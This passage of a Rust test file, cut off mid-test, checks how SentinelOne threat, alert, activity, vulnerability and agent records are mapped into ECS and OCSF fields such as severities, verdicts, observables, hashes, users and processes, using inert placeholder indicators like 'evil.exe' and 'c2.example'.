    let of = |info: Value, infected: bool| threat(info, json!({"agentRealtimeInfo": {"agentInfected": infected}}));
    let activity = |number, confidence: &str, classification: &str| {
        let data = json!({"confidenceLevel": confidence, "threatClassification": classification});
        activity(number, json!({"threatId": "1"}), data)
    };
    for (confidence, classification, ecs, ocsf) in [
        ("malicious", "Malware", json!(73), "High"),
        ("malicious", "Ransomware", json!(99), "Critical"),
        ("suspicious", "Malware", json!(47), "Medium"),
    ] {
        let info = json!({"confidenceLevel": confidence, "classification": classification,
            "mitigationStatus": "not_mitigated"});
        for (stream, record) in [
            (Stream::Threats, of(info.clone(), true)),
            (Stream::Threats, of(info.clone(), false)),
            (Stream::Activities, activity(19, confidence, classification)),
        ] {
            assert_fields(
                &map_to(Schema::Ecs, stream, &record),
                &[("event.severity", ecs.clone()), ("event.outcome", json!("unknown"))],
            );
            assert_fields(&map_to(Schema::Ocsf, stream, &record), &[("severity", json!(ocsf))]);
        }
    }
}

#[test]
fn an_unknown_word_is_neither_the_lowest_nor_the_newest() {
    let alert = |word: Value| json!({"alertInfo": {"alertId": "1"}, "ruleInfo": {"name": "r", "severity": word}});
    let hit = |word: Value| activity(3608, json!({}), json!({"alertid": "1", "rulename": "r", "severity": word}));
    let unified = |word: Value| json!({"id": "1", "name": "a", "severity": word, "classification": "Malware"});
    let finding = |word: Value| json!({"id": "1", "severity": word, "status": "Detected", "cveId": "CVE-2026-1"});
    for word in [json!("Very High"), json!(5), json!("Unknown"), json!(""), Value::Null] {
        let of_threat = threat(json!({"confidenceLevel": word}), json!({}));
        for (stream, record) in [
            (Stream::Alerts, alert(word.clone())),
            (Stream::Activities, hit(word.clone())),
            (Stream::UnifiedAlerts, unified(word.clone())),
            (Stream::Vulnerabilities, finding(word.clone())),
            (Stream::Threats, of_threat),
        ] {
            let ecs = map_to(Schema::Ecs, stream, &record);
            assert_eq!(faults(Schema::Ecs, &ecs), Vec::<String>::new(), "{ecs:#}");
            assert_fields(&ecs, &[("event.severity", Value::Null)]);
            assert!(word != "Very High" || ecs.to_string().to_lowercase().contains("very high"), "{ecs:#}");
            let ocsf = map_to(Schema::Ocsf, stream, &record);
            assert_eq!(faults(Schema::Ocsf, &ocsf), Vec::<String>::new(), "{ocsf:#}");
            assert_fields(&ocsf, &[("severity", json!("Unknown")), ("severity_id", json!(0))]);
            assert!(word != "Very High" || ocsf.to_string().contains("Very High"), "{ocsf:#}");
            let malware = ocsf.pointer("/malware/0/severity");
            assert_eq!(malware, None, "{ocsf:#}");
        }
    }
    for (status, mitigation, expected, number, activity) in [
        ("Detected", "Not mitigated", "New", 1, "Update"),
        ("Detected", "", "New", 1, "Update"),
        ("Detected", "On hold", "Suppressed", 3, "Update"),
        ("Reopened", "", "New", 1, "Update"),
        ("Removed", "On hold", "Resolved", 4, "Close"),
        ("Resolved", "Not mitigated", "Resolved", 4, "Close"),
        ("Fixed", "", "Resolved", 4, "Close"),
        ("Ignored", "", "Suppressed", 3, "Update"),
        ("Deferred", "Not mitigated", "Deferred", 99, "Update"),
        ("", "To be patched", "In Progress", 2, "Update"),
        ("", "", "Unknown", 0, "Update"),
    ] {
        let record = json!({"id": "1", "status": status, "mitigationStatus": mitigation, "cveId": "CVE-2026-1"});
        let event = map_to(Schema::Ocsf, Stream::Vulnerabilities, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        let expected = [("status", json!(expected)), ("status_id", json!(number)), ("activity_name", json!(activity))];
        assert_fields(&event, &expected);
    }
}

/// A word that OCSF itself has is the one with its number.
#[test]
fn words_of_the_schema_have_their_numbers() {
    let finding = |status: Value, mitigation: Value| json!({"id": "1", "cveId": "CVE-2024-1", "status": status, "mitigationStatus": mitigation});
    for (status, mitigation, id) in [
        ("", "In progress", 2),
        ("ON_HOLD", "", 3),
        ("TO_BE_PATCHED", "", 2),
        ("Suppressed", "", 3),
        ("Archived", "", 5),
        ("Deleted", "", 6),
        ("Deferred", "", 99),
    ] {
        let event = map_to(Schema::Ocsf, Stream::Vulnerabilities, &finding(json!(status), json!(mitigation)));
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("status_id", json!(id))]);
    }
    for (kind, system, [kind_id, system_id]) in [
        ("IOT", "iPadOS", [7, 302]),
        ("Browser", "Windows Mobile", [8, 101]),
        ("firewall", "chromeos", [9, 99]),
        ("toaster", "linux", [99, 200]),
    ] {
        let event = map_to(
            Schema::Ocsf,
            Stream::Agents,
            &json!({"id": "9", "machineType": kind, "osType": system, "osName": "x"}),
        );
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&event, &[("device.type_id", json!(kind_id)), ("device.os.type_id", json!(system_id))]);
    }
    for (word, id, caption) in
        [("test", 6, "Test"), ("Insufficient Data", 7, "Insufficient Data"), ("not_sure", 99, "not_sure")]
    {
        let expected = [("verdict_id", json!(id)), ("verdict", json!(caption))];
        let of_threat = threat(json!({"analystVerdict": word}), json!({}));
        let of_activity = activity(2030, json!({"threatId": "5"}), json!({"newAnalystVerdict": word}));
        let of_alert = json!({"alertInfo": {"alertId": "1", "analystVerdict": word}});
        let unified = json!({"id": "1", "analystVerdict": word});
        for (stream, record) in [
            (Stream::Threats, of_threat),
            (Stream::Activities, of_activity),
            (Stream::Alerts, of_alert),
            (Stream::UnifiedAlerts, unified),
        ] {
            let event = map_to(Schema::Ocsf, stream, &record);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(&event, &expected);
        }
    }
}

/// The file stays as evidence.
#[test]
fn what_is_no_malware_is_in_no_list_of_malware() {
    let sha1 = "1".repeat(40);
    for (verdict, state) in [("false_positive", "not_mitigated"), ("undefined", "marked_as_benign")] {
        let info = json!({"analystVerdict": verdict, "mitigationStatus": state, "filePath": "C:\\x.exe", "sha1": sha1});
        let of_threat = threat(info, json!({}));
        let of_activity = activity(
            2030,
            json!({"threatId": "5"}),
            json!({"newAnalystVerdict": verdict, "newStatus": state, "threatClassification": "Malware",
                "filePath": "C:\\x.exe", "fileDisplayName": "x.exe", "fileContentHash": sha1}),
        );
        let unified = json!({"id": "1", "name": "x.exe", "classification": "MALWARE", "analystVerdict": verdict, "result": state,
            "process": {"file": {"name": "x.exe", "path": "C:\\x.exe", "sha1": sha1}}});
        for (stream, record) in
            [(Stream::Threats, of_threat), (Stream::Activities, of_activity), (Stream::UnifiedAlerts, unified)]
        {
            let event = map_to(Schema::Ocsf, stream, &record);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(&event, &[("malware", json!(null))]);
            assert_fields(&event["evidences"][0]["file"], &[("path", json!("C:\\x.exe"))]);
            assert!(!event["observables"].to_string().contains("malware"), "{event:#}");
        }
    }
    // A process that was killed is blocked, whatever the state of the threat.
    let report =
        json!([{"action": "kill", "status": "success", "actionsCounters": {"success": 2, "failed": 0, "total": 2}}]);
    let record = threat(json!({"mitigationStatus": "not_mitigated"}), json!({"mitigationStatus": report}));
    let event = map_to(Schema::Ocsf, Stream::Threats, &record);
    assert_fields(&event, &[("disposition", json!("Blocked")), ("action", json!("Denied"))]);
    assert!(event["malware"].is_array(), "{event:#}");
}

#[test]
fn a_benign_verdict_leaves_no_malware() {
    for (verdict, number, has_malware) in [
        ("TRUE_POSITIVE_BENIGN", 5, false),
        ("FALSE_POSITIVE_BENIGN", 1, false),
        ("TRUE_POSITIVE_BENIGN_BUT_SUSPICIOUS", 4, true),
        ("TRUE_POSITIVE_MALWARE", 2, true),
    ] {
        let record = json!({"id": "1", "name": "a.exe", "classification": "MALWARE", "analystVerdict": verdict});
        let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
        assert_fields(&event, &[("verdict_id", json!(number))]);
        assert_eq!(event.get("malware").is_some(), has_malware, "{verdict}: {event:#}");
    }
}

/// A device without a name has that of its class, else that of its interface.
#[test]
fn a_device_without_a_name_is_a_peripheral_of_its_kind() {
    let device = |mut data: Value| {
        data["deviceName"] = json!("");
        data["eventType"] = json!("connected");
        data["vendorId"] = json!("8087");
        let record = activity(5126, json!({"agentId": "9"}), data);
        let event = map_to(Schema::Ocsf, Stream::Activities, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(&map_to(Schema::Ecs, Stream::Activities, &record), &[("device.model", Value::Null)]);
        event
    };
    for (data, name) in [
        (json!({"deviceClass": "E0h", "interface": "USB"}), "E0h"),
        (json!({"deviceClass": "N/A", "interface": "Thunderbolt"}), "Thunderbolt"),
        (json!({"interface": "Bluetooth"}), "Bluetooth"),
    ] {
        let class = data["deviceClass"].clone();
        let event = device(data.clone());
        assert_fields(
            &event,
            &[
                ("class_uid", json!(1010)),
                ("activity_name", json!("Connect")),
                ("peripheral_device.name", json!(name)),
                ("unmapped.data.deviceClass", class),
                ("unmapped.data.interface", data["interface"].clone()),
            ],
        );
    }
    let event = device(json!({"deviceClass": "", "interface": null}));
    assert_fields(&event, &[("class_uid", json!(0)), ("activity_name", json!("device-connected"))]);
}

#[test]
fn what_is_in_the_place_of_a_value_is_none() {
    let [sha1, sha256] = ["AAF4C61DDCC5E8A2DABEDE0F3B482CD9AEA9434D", &"AB".repeat(32)];
    check(
        "threat-with-placeholders",
        Stream::Threats,
        &threat(
            json!({"filePath": "/opt/x", "fileSize": -1, "md5": "0".repeat(32), "sha1": sha1, "sha256": sha256}),
            json!({}),
        ),
        &[
            ("file.size", Value::Null),
            ("file.hash", json!({"sha1": sha1.to_lowercase(), "sha256": sha256.to_lowercase()})),
            ("related.hash", json!([sha1.to_lowercase(), sha256.to_lowercase()])),
            ("sentinel_one.threat.threat_info.file_size", json!(-1)),
            ("sentinel_one.threat.threat_info.md5", json!("0".repeat(32))),
            ("error", Value::Null),
        ],
        &[("unmapped.threatInfo.fileSize", json!(-1)), ("unmapped.threatInfo.md5", json!("0".repeat(32)))],
    );
    for pid in [json!(-1), json!("-1"), json!(-5), json!("N/A")] {
        let alert = json!({"alertInfo": {"alertId": "1"}, "ruleInfo": {"name": "r"},
            "sourceProcessInfo": {"name": "p", "pid": pid}});
        let fields = [("process.pid", Value::Null), ("error", Value::Null)];
        assert_fields(&map_to(Schema::Ecs, Stream::Alerts, &alert), &fields);
        assert_fields(&map_to(Schema::Ocsf, Stream::Alerts, &alert), &[("actor.process.pid", Value::Null)]);
        let finding =
            json!({"id": "1", "riskScore": pid, "baseScore": pid, "cvssVersion": "3.1", "cveId": "CVE-2026-1"});
        let fields =
            [("event.risk_score", Value::Null), ("vulnerability.score.base", Value::Null), ("error", Value::Null)];
        assert_fields(&map_to(Schema::Ecs, Stream::Vulnerabilities, &finding), &fields);
        let event = map_to(Schema::Ocsf, Stream::Vulnerabilities, &finding);
        assert_eq!(event.pointer("/vulnerabilities/0/cve/cvss"), None, "{event:#}");
    }
}

/// Type and value of each observable of an OCSF event.
fn observed(event: &Value) -> Vec<(String, String)> {
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let list = event["observables"].as_array().cloned().unwrap_or_default();
    list.iter().map(|observable| (text(&observable["type"]), text(&observable["value"]))).collect()
}

#[test]
fn an_observable_has_the_form_of_other_values() {
    let [upper, lower] = ["C", "c"].map(|digit| digit.repeat(40));
    let of_console = [
        ("FILE_HASH", upper.as_str()),
        ("FILE_HASH", "0000000000000000000000000000000000000000"),
        ("IP", "127.0.0.1"),
        ("IP", "0.0.0.0"),
        ("IP", "FE80:0:0:0:0:0:0:00A1"),
        ("IP", "::ffff:192.0.2.7"),
        ("IP", "192.0.2.7"),
        ("HOSTNAME", "192.0.2.7"),
        ("HOSTNAME", "db01"),
    ]
    .map(|(kind, value)| json!({"type": kind, "value": value}));
    let record =
        json!({"id": "1", "process": {"file": {"sha1": lower, "path": "C:\\a.exe"}}, "observables": of_console});
    let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
    assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
    let expected = [
        ("File Name", "a.exe"),
        ("File Path", "C:\\a.exe"),
        ("Hash", &lower),
        // Addresses and names are as at their paths.
        ("IP Address", "FE80:0:0:0:0:0:0:00A1"),
        ("IP Address", "::ffff:192.0.2.7"),
        ("IP Address", "192.0.2.7"),
        ("Hostname", "db01"),
    ];
    assert_eq!(observed(&event), expected.map(|(kind, value)| (kind.to_owned(), value.to_owned())));
    // The indicator of a feed, in an alert and in the hit of its rule.
    for (kind, value, expected) in [
        ("SHA1", upper.as_str(), Some(("Hash", upper.as_str()))),
        ("IPV6", "::FFFF:192.0.2.7", Some(("IP Address", "::FFFF:192.0.2.7"))),
        ("IPV4", "127.0.0.1", None),
        ("DNS", "c2.example", Some(("Hostname", "c2.example"))),
    ] {
        let alert = json!({"alertInfo": {"alertId": "1", "tiIndicatorType": kind, "tiIndicatorValue": value}});
        let data = json!({"alertid": "1", "rulename": "r", "tiindicatortype": kind, "tiindicatorvalue": value});
        for (stream, record) in [(Stream::Alerts, alert), (Stream::Activities, activity(3608, json!({}), data))] {
            let event = map_to(Schema::Ocsf, stream, &record);
            let expected: Vec<_> = expected.iter().map(|(kind, value)| (kind.to_string(), value.to_string())).collect();
            assert_eq!(observed(&event), expected, "{kind}: {event:#}");
        }
    }
}

/// The types of the console's own list that a field of ECS or a type of OCSF fits.
#[test]
fn an_observable_of_any_type_is_related() {
    let hash = "D".repeat(64);
    for (kind, value, field, related, caption) in [
        ("ENDPOINT", "db02", "hosts", "db02", "Hostname"),
        ("ENDPOINT", "10.0.0.9", "ip", "10.0.0.9", "IP Address"),
        ("USER", "joe", "user", "joe", "User Name"),
        ("EMAIL", "c@b.example", "user", "c@b.example", "Email Address"),
        ("FINGERPRINT", &hash, "hash", &hash.to_lowercase(), "Hash"),
        ("MAC", "00:50:56:00:00:01", "", "00:50:56:00:00:01", "MAC Address"),
        ("PROCESS_NAME", "evil.exe", "", "evil.exe", "Process Name"),
        ("PROCESS", "evil.exe", "", "evil.exe", "Process Name"),
        ("PROCESS", "C:\\evil.exe", "", "C:\\evil.exe", "File Path"),
        ("FILE", "evil.exe", "", "evil.exe", "File Name"),
        ("FILE", "/tmp/evil", "", "/tmp/evil", "File Path"),
        ("COMMAND_LINE", "evil.exe -x", "", "evil.exe -x", "Command Line"),
        ("FILE_PATH", "/tmp/evil", "", "/tmp/evil", "File Path"),
        ("REGISTRY_KEY_PATH", "HKLM\\Run", "", "HKLM\\Run", "Registry Key Path"),
        ("REGISTRY_KEY", "HKLM\\Run", "", "HKLM\\Run", "Registry Key Path"),
        ("URL_STRING", "https://evil.example/", "", "https://evil.example/", "URL String"),
    ] {
        let list = json!([{"name": "a", "type": kind, "value": value}]);
        for (record, path) in [
            (json!({"id": "1", "observables": list}), "unmapped.observables[].value"),
            (
                json!({"id": "1", "indicators": [{"uid": "7", "observables": list}]}),
                "unmapped.indicators[].observables[].value",
            ),
        ] {
            let event = map_to(Schema::Ecs, Stream::UnifiedAlerts, &record);
            let expected = if field.is_empty() { Value::Null } else { json!({field: [related]}) };
            assert_fields(&event, &[("related", expected)]);
            let event = map_to(Schema::Ocsf, Stream::UnifiedAlerts, &record);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            assert_eq!(observed(&event), [(caption.to_owned(), value.to_owned())], "{event:#}");
            assert_eq!(event["observables"][0]["name"], path);
        }
    }
}

/// The enum's own words, as the keys of engines.
#[test]
fn an_engine_whose_key_is_a_type_has_it() {
    let engines = json!([{"key": "behavioral"}]);
    let record = json!({"id": "1", "threatInfo": {"threatName": "a.exe", "detectionEngines": engines}});
    let event = map_to(Schema::Ocsf, Stream::Threats, &record);
    assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
    assert_fields(&event, &[("finding_info.analytic.type_id", json!(2))]);
}

#[test]
fn the_hash_of_an_entry_is_one_in_lower_case_and_a_uuid_of_zeros_is_none() {
    let [upper, lower] = ["ABCDEF01", "abcdef01"].map(|digits| digits.repeat(5));
    let data = json!({"fileContentHash": upper, "osFamily": "windows", "username": "jane"});
    let record = activity(3002, json!({"userId": "7", "hash": upper}), data);
    let event = map_to(Schema::Ecs, Stream::Activities, &record);
    assert_fields(&event, &[("file.hash.sha1", json!(lower)), ("related.hash", json!([lower]))]);
    let event = map_to(Schema::Ocsf, Stream::Activities, &record);
    assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
    assert_fields(&event, &[("entity.name", json!(lower))]);
    assert!(observed(&event).contains(&("Hash".to_owned(), lower)), "{event:#}");
    for uuid in ["00000000-0000-0000-0000-000000000000", "00000000000000000000000000000000"] {
        let record = threat(json!({}), json!({"agentRealtimeInfo": {"agentId": "9", "agentUuid": uuid}}));
        assert_fields(&map_to(Schema::Ecs, Stream::Threats, &record), &[("sentinel_one.agent", Value::Null)]);
        let record = json!({"id": "9", "uuid": uuid, "computerName": "h", "updatedAt": "2026-01-01T00:00:00Z"});
        // `sentinel_one.agent.uuid` joins streams.
        let event = map_to(Schema::Ecs, Stream::Agents, &record);
        assert_fields(&event["sentinel_one"]["agent"], &[("uuid", Value::Null), ("original_uuid", json!(uuid))]);
        let event = map_to(Schema::Ocsf, Stream::Agents, &record);
        assert!(!event["device"].to_string().contains(uuid), "{event:#}");
    }
}

#[test]
fn a_technique_has_the_id_of_its_link() {
    let technique = |name: &str, link: &str| json!({"name": name, "link": link});
    let techniques = json!([
        technique("PowerShell", "https://attack.mitre.org/techniques/T1059/001/"),
        technique("T1486 - Data Encrypted for Impact", ""),
        technique("Mimikatz", "https://attack.mitre.org/software/S0002/")
    ]);
    let indicators = json!([{"description": "d", "tactics": [{"name": "Execution", "techniques": techniques}]}]);
    check(
        "techniques-by-their-links",
        Stream::Threats,
        &threat(json!({}), json!({"indicators": indicators})),
        &[
            ("threat.technique.id", json!(["T1059", "T1486"])),
            (
                "threat.technique.name",
                json!(["Command and Scripting Interpreter", "Data Encrypted for Impact", "Mimikatz"]),
            ),
            ("threat.technique.subtechnique.id", json!(["T1059.001"])),
            ("threat.technique.subtechnique.name", json!(["PowerShell"])),
        ],
        &[],
    );
    let event = map_to(Schema::Ocsf, Stream::Threats, &threat(json!({}), json!({"indicators": indicators})));
    let ids: Vec<&Value> =
        event["attacks"].as_array().unwrap().iter().map(|attack| at(attack, "technique.uid")).collect();
    assert_eq!(ids, [&json!("T1059"), &json!("T1486"), &Value::Null]);
}

#[test]
fn a_user_of_a_directory_has_a_name_and_an_address() {
    let agent = |directory: Value| json!({"id": "9", "computerName": "web-1", "activeDirectory": directory});
    for (directory, name, email) in [
        (json!({"userPrincipalName": "jane@acme.example"}), "jane", json!("jane@acme.example")),
        (json!({"mail": "jane@acme.example"}), "jane", json!("jane@acme.example")),
        (
            json!({"mail": "j.doe@acme.example", "userPrincipalName": "jane@corp.acme.example"}),
            "jane",
            json!("j.doe@acme.example"),
        ),
    ] {
        let record = agent(directory);
        let user = [("user.name", json!(name)), ("user.email", email.clone())];
        assert_fields(&map_to(Schema::Ecs, Stream::Agents, &record), &user);
        let event = map_to(Schema::Ocsf, Stream::Agents, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        // A principal name is no address there.
        let email = at(&record, "activeDirectory.mail").clone();
        assert_fields(&event, &[("device.owner.name", json!(name)), ("device.owner.email_addr", email)]);
    }
    let named = json!({"id": "9", "lastLoggedInUserName": "bob", "activeDirectory": {"userPrincipalName": "jane@acme.example"}});
    assert_fields(&map_to(Schema::Ecs, Stream::Agents, &named), &[("user.name", json!("bob"))]);
    let record = threat(json!({}), json!({"agentDetectionInfo": {"agentLastLoggedInUpn": "jane@acme.example"}}));
    let user = [("user.name", json!("jane")), ("user.email", json!("jane@acme.example"))];
    assert_fields(&map_to(Schema::Ecs, Stream::Threats, &record), &user);
}

/// The console has a user's name and address in one text, or the address twice.
#[test]
fn a_name_with_an_address_is_a_user_with_both() {
    let address = "jane@acme.example";
    for (text, full_name) in [
        ("Jane Doe (jane@acme.example)", json!("Jane Doe")),
        ("Jane Doe  (jane@acme.example)", json!("Jane Doe")),
        ("jane@acme.example (jane@acme.example)", Value::Null),
    ] {
        for (number, key) in [(27, "username"), (61, "username"), (2030, "username"), (54, "byUser")] {
            let record = activity(
                number,
                json!({"userId": "99", "agentId": "8", "threatId": "5"}),
                json!({key: text, "computerName": "h"}),
            );
            let event = map_to(Schema::Ecs, Stream::Activities, &record);
            let mut user = json!({"id": "99", "name": "jane", "email": address});
            let related =
                if full_name.is_null() { json!(["jane", address]) } else { json!(["jane", address, full_name]) };
            if !full_name.is_null() {
                user["full_name"] = full_name.clone();
            }
            assert_fields(&event, &[("user", user), ("related.user", related)]);
            let event = map_to(Schema::Ocsf, Stream::Activities, &record);
            assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
            assert_fields(
                &event["actor"]["user"],
                &[
                    ("uid", json!("99")),
                    ("name", json!("jane")),
                    ("email_addr", json!(address)),
                    ("full_name", full_name.clone()),
                ],
            );
        }
        // Who acted, and who was changed.
        let record = activity(
            23,
            json!({"userId": "7"}),
            json!({"byUser": text, "username": "Bob Roe (bob@acme.example)", "role": "Viewer"}),
        );
        let event = map_to(Schema::Ecs, Stream::Activities, &record);
        let target =
            json!({"id": "7", "name": "bob", "email": "bob@acme.example", "full_name": "Bob Roe", "roles": ["Viewer"]});
        assert_fields(&event, &[("user.name", json!("jane")), ("user.email", json!(address)), ("user.target", target)]);
        let event = map_to(Schema::Ocsf, Stream::Activities, &record);
        assert_eq!(faults(Schema::Ocsf, &event), Vec::<String>::new(), "{event:#}");
        assert_fields(
            &event,
            &[
                ("actor.user.name", json!("jane")),
                ("actor.user.email_addr", json!(address)),
                ("user.name", json!("bob")),
                ("user.email_addr", json!("bob@acme.example")),
                ("user.full_name", json!("Bob Roe")),
            ],
        );
    }
    // What is in brackets is part of any other name, and one user is one in both forms.
    let event = map_to(Schema::Ecs, Stream::Activities, &activity(27, json!({}), json!({"username": "Jane (SOC)"})));
    assert_fields(&event, &[("user", json!({"name": "Jane (SOC)", "full_name": "Jane (SOC)"}))]);
    let own = json!({"byUser": "Jane Doe (jane@acme.example)", "username": address, "newValue": true});
    let event = map_to(Schema::Ecs, Stream::Activities, &activity(67, json!({"userId": "7"}), own));
    assert_fields(&event, &[("user.id", json!("7")), ("user.name", json!("jane"))]);
}

/// File times with all bits unset or set, and the end of the calendar.
#[test]
fn a_time_that_no_event_has_is_none() {
    for time in ["1601-01-01T00:00:00Z", "2185-07-21T23:34:33.709552Z", "9999-12-31T23:59:59Z"] {
        let record = json!({"id": "1", "alertInfo": {"alertId": "1", "createdAt": "2026-01-01T00:00:00Z"},
            "targetProcessInfo": {"tgtFilePath": "C:\\a.exe", "tgtFileCreatedAt": time, "tgtFileModifiedAt": time}});
        let event = map_to(Schema::Ecs, Stream::Alerts, &record);
        assert_fields(
            &event,
            &[("file.path", json!("C:\\a.exe")), ("file.created", json!(null)), ("file.mtime", json!(null))],
        );
        let event = map_to(Schema::Ocsf, Stream::Alerts, &record);
        let file = &event["evidences"][0]["file"];
        assert_fields(
            file,
            &[("path", json!("C:\\a.exe")), ("created_time", json!(null)), ("modified_time", json!(null))],
        );
    }
}

#[test]
fn a_time_without_a_zone_is_reported() {
    for (time, expected) in [
        (json!("2024-05-01T10:00:00Z"), false),
        (json!("2024-05-01T10:00:00+02:00"), false),
        (json!(1_714_557_600_000_u64), false),
        (json!("2024-05-01 10:00:00"), true),
        (json!("2024-05-01T10:00:00.123456"), true),
    ] {
        let record = activity(27, json!({"createdAt": time}), json!({"username": "jane"})).to_string();
        for schema in [Schema::Ecs, Schema::Ocsf] {
            let mapped = mapper_to(schema, Stream::Activities, false).map(record.as_bytes(), &mut Vec::new()).unwrap();
            assert_eq!(mapped.without_zone, expected, "{time}");
        }
    }
}

/// Arguments and user of a malicious process are never those of what started it.
#[test]
fn the_malicious_process_is_not_its_originator() {
    let linux = json!({"detectionType": "dynamic", "fileExtensionType": "None", "fileExtension": null,
        "filePath": "/opt/agent/sensor12704", "threatName": "sensor12704", "originatorProcess": "systemd",
        "maliciousProcessArguments": " sensor", "processUser": "root", "sha1": "1".repeat(40)});
    let file = json!({"name": "sensor12704", "path": "/opt/agent/sensor12704", "type_id": 8, "type": "Executable File",
        "hashes": [{"algorithm_id": 2, "algorithm": "SHA-1", "encoding_id": 1, "encoding": "Hex",
            "value": "1".repeat(40)}]});
    check(
        "linux-process",
        Stream::Threats,
        &threat(linux, json!({"agentRealtimeInfo": {"agentOsType": "linux", "agentComputerName": "c"}})),
        &[
            (
                "process",
                json!({"name": "sensor12704", "executable": "/opt/agent/sensor12704", "command_line": "sensor",
                    "user": {"name": "root"}, "parent": {"name": "systemd"}}),
            ),
            ("event.category", json!(["malware", "process"])),
        ],
        &[(
            "evidences",
            json!([{"file": file, "user": {"name": "root", "type_id": 0, "type": "Unknown"},
                "data": {"process": "/opt/agent/sensor12704", "originator_process": "systemd",
                    "arguments": "sensor"}}]),
        )],
    );
    let process = |info: Value| at(&map_to(Schema::Ecs, Stream::Threats, &threat(info, json!({}))), "process").clone();
    let macos = json!({"detectionType": "dynamic", "filePath": "/usr/local/tool/bin/tool", "originatorProcess": "launchd",
        "processUser": "root", "detectionEngines": [{"key": "executables"}]});
    let expected = json!({"name": "tool", "executable": "/usr/local/tool/bin/tool", "user": {"name": "root"},
        "parent": {"name": "launchd"}});
    assert_eq!(process(macos), expected);
    let found = json!({"detectionType": "static", "filePath": "C:\\a.exe", "fileExtensionType": "Executable",
        "originatorProcess": "explorer.exe", "maliciousProcessArguments": "-x 1", "processUser": "ACME\\jane"});
    assert_eq!(process(found.clone()), json!({"name": "explorer.exe"}));
    let event = map_to(Schema::Ecs, Stream::Threats, &threat(found, json!({})));
    assert_fields(
        &event,
        &[
            ("user", json!({"name": "jane", "domain": "ACME"})),
            ("sentinel_one.threat.threat_info.malicious_process_arguments", json!("-x 1")),
            ("sentinel_one.threat.threat_info.process_user", json!("ACME\\jane")),
        ],
    );
    let script = json!({"detectionType": "dynamic", "filePath": "C:\\run.ps1", "originatorProcess": "parent.exe",
        "maliciousProcessArguments": "-a 1"});
    assert_eq!(process(script), json!({"parent": {"name": "parent.exe"}}));
}

#[test]
fn a_command_line_has_a_process_and_its_hash_is_no_files() {
    let sha1 = format!("fa08{}", "1".repeat(36));
    let path = "C:\\Windows\\System32\\powershell.exe";
    let info = json!({"threatName": "powershell.exe (CLI fa08)", "filePath": format!("{path} (CLI fa08)"), "sha1": sha1,
        "fileSize": 52, "fileVerificationType": "NotSigned", "publisherName": "x", "isFileless": false, "originatorProcess": null, "maliciousProcessArguments": "-Command \"x\""});
    check(
        "command-line-of-a-process",
        Stream::Threats,
        &threat(info.clone(), json!({})),
        &[
            ("event.category", json!(["malware", "process"])),
            ("process", json!({"name": "powershell.exe", "executable": path, "command_line": "-Command \"x\""})),
            ("file", json!({"name": "powershell.exe", "path": path, "extension": "exe"})),
            ("threat.indicator", json!({"confidence": "High"})),
            ("related.hash", json!([sha1])),
            ("sentinel_one.threat.threat_info.sha1", json!(sha1)),
        ],
        &[
            (
                "malware",
                json!([{"name": "powershell.exe", "classification_ids": [99], "classifications": ["Malware"],
                    "severity_id": 4, "severity": "High"}]),
            ),
            (
                "evidences",
                json!([{"file": {"name": "powershell.exe", "path": path, "type_id": 8, "type": "Executable File"},
                    "data": {"process": path, "arguments": "-Command \"x\""}}]),
            ),
        ],
    );
    for (originator, fileless) in [(json!("explorer.exe"), false), (json!("explorer.exe"), true), (json!(null), true)] {
        let mut other = info.clone();
        other["originatorProcess"] = originator.clone();
        other["isFileless"] = json!(fileless);
        let event = map_to(Schema::Ecs, Stream::Threats, &threat(other, json!({})));
        assert_fields(
            &event,
            &[
                ("process.name", json!("powershell.exe")),
                ("process.executable", json!(path)),
                ("process.parent.name", originator),
                ("file.hash", Value::Null),
            ],
        );
    }
    // A hash that begins otherwise is that of the file.
    let mut of_file = info;
    of_file["sha1"] = json!("2".repeat(40));
    let event = map_to(Schema::Ecs, Stream::Threats, &threat(of_file, json!({})));
    assert_fields(
        &event,
        &[
            ("file.hash.sha1", json!("2".repeat(40))),
            ("file.size", json!(52)),
            ("file.code_signature.exists", json!(false)),
        ],
    );
    // The activity about the threat, and its unified alert.
    let reported = json!({"fileDisplayName": "powershell.exe (CLI fa08)", "filePath": path, "fileContentHash": sha1});
    let event =
        map_to(Schema::Ecs, Stream::Activities, &activity(19, json!({"threatId": "5", "agentId": "8"}), reported));
    let process = json!({"name": "powershell.exe", "executable": path});
    assert_fields(&event, &[("process", process), ("file.hash", Value::Null), ("file.name", json!("powershell.exe"))]);
    let unified =
        json!({"id": "u", "process": {"file": {"name": "powershell.exe (CLI fa08)", "path": path, "sha1": sha1}}});
    let event = map_to(Schema::Ecs, Stream::UnifiedAlerts, &unified);
    assert_fields(
        &event,
        &[("process.executable", json!(path)), ("process.hash", Value::Null), ("file.hash", Value::Null)],
    );
}

#[test]
fn a_path_in_the_place_of_a_name_is_that_of_the_file() {
    let path = "C:\\Users\\jane\\a.exe";
    let of_threat = threat(json!({"threatName": path}), json!({}));
    let of_activity = activity(2030, json!({"threatId": "5"}), json!({"fileDisplayName": path}));
    let of_alert = json!({"id": "1", "process": {"file": {"name": path}}});
    for (stream, record) in
        [(Stream::Threats, of_threat), (Stream::Activities, of_activity), (Stream::UnifiedAlerts, of_alert)]
    {
        let event = map_to(Schema::Ecs, stream, &record);
        assert_fields(&event, &[("file.path", json!(path)), ("file.name", json!("a.exe"))]);
        let event = map_to(Schema::Ocsf, stream, &record);
